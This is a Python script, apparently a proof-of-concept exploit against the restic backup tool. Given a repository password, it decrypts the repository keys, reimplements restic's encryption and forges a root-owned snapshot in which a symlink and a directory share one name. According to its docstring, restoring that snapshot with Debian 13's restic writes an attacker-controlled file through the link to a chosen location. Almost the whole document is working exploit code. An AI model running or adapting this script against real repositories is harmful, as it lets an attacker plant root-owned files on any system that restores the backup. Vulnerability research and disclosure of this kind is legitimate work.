"""Add a snapshot to a repository of restic in which a link and a directory have the same name.

Anyone with the password of a repository can write such a one; restic itself makes none. Behind the link restic of
Debian 13 makes the further name of a file that it has restored: a file of root with a content of the attacker's.
Arguments: repository, password, tag, the directory that holds both, the directory that the link leads to, the name of
the file there. Prints the id of the snapshot.
"""

import base64
import hashlib
import json
import os
import struct
import sys
import time

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.poly1305 import Poly1305

repository, password, tag, directory, victim, name = sys.argv[1:]
NOW = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())


def crypt(key, mode, data):
    encryptor = Cipher(algorithms.AES(key), mode).encryptor()
    return encryptor.update(data) + encryptor.finalize()


def opened(key, data):
    """Without the check: of restic's AES-256-CTR with Poly1305-AES the nonce comes first."""
    return crypt(key, modes.CTR(data[:16]), data[16:-16])


def sealed(data):
    nonce = os.urandom(16)
    body = crypt(MASTER, modes.CTR(nonce), data)
    mask = bytes.fromhex("ffffff0ffcffff0ffcffff0ffcffff0f")
    one_time = bytes(a & b for a, b in zip(MAC_R, mask)) + crypt(MAC_K, modes.ECB(), nonce)
    return nonce + body + Poly1305.generate_tag(one_time, body)


def written(place, data):
    identity = hashlib.sha256(data).hexdigest()
    place = os.path.join(repository, place, identity[:2] if place == "data" else "")
    os.makedirs(place, exist_ok=True)
    with open(os.path.join(place, identity), "wb") as stream:
        stream.write(data)
    return identity


with open(os.path.join(repository, "keys", os.listdir(repository + "/keys")[0]), encoding="utf-8") as stream:
    key = json.load(stream)
salt = base64.b64decode(key["salt"])
derived = hashlib.scrypt(password.encode(), salt=salt, n=key["N"], r=key["r"], p=key["p"], dklen=64, maxmem=1 << 30)
keys = json.loads(opened(derived[:32], base64.b64decode(key["data"])))
MASTER, MAC_K, MAC_R = (base64.b64decode(one) for one in (keys["encrypt"], keys["mac"]["k"], keys["mac"]["r"]))
blobs = []


def blob(kind, data):
    blobs.append((kind, hashlib.sha256(data).digest(), sealed(data)))
    return blobs[-1][1].hex()


def node(name, kind, mode, **more):
    return dict(more, name=name, type=kind, mode=mode, mtime=NOW, atime=NOW, ctime=NOW, uid=0, gid=0)


def tree(*nodes):
    return {"subtree": blob(1, (json.dumps({"nodes": nodes}) + "\n").encode())}


text = b"content of the attacker's\n"
file = {"content": [blob(0, text)], "size": len(text), "links": 2, "device_id": 1, "inode": 7}
DIRECTORY, LINK = 0x80000000 | 0o755, 0x8000000 | 0o777
found = tree(
    node("a", "file", 0o644, **file),
    node("d", "symlink", LINK, linktarget=victim),
    node("d", "dir", DIRECTORY, **tree(node(name, "file", 0o644, **file))),
)
for part in reversed(directory.strip("/").split("/")):
    found = tree(node(part, "dir", DIRECTORY, **found))
header = b"".join(struct.pack("<BI", kind, len(data)) + digest for kind, digest, data in blobs)
offsets = [sum(len(data) for _kind, _digest, data in blobs[:number]) for number in range(len(blobs))]
pack = b"".join(data for _kind, _digest, data in blobs) + sealed(header)
pack = written("data", pack + struct.pack("<I", len(header) + 32))
entries = [
    {"id": digest.hex(), "type": ("data", "tree")[kind], "offset": offset, "length": len(data)}
    for (kind, digest, data), offset in zip(blobs, offsets)
]
written("index", sealed(json.dumps({"packs": [{"id": pack, "blobs": entries}]}).encode()))
snapshot = {"time": NOW, "tree": found["subtree"], "paths": [directory], "hostname": "attacker", "tags": [tag]}
print(written("snapshots", sealed(json.dumps(snapshot).encode())))
